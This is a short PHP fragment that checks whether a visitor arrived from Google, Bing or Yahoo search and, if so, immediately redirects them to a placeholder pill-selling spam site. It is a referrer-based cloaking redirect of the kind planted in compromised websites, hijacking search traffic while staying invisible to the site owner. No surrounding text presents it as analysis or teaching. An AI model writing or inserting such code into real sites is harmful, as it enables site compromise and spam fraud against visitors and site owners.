<?php
$r = parse_url($_SERVER['HTTP_REFERER'] ?? '', PHP_URL_HOST);
if (in_array($r, ['www.google.com', 'www.bing.com', 'search.yahoo.com'])) {
    header('Refresh: 0; url=https://pills-outlet.example/?r=1');
    exit;
}
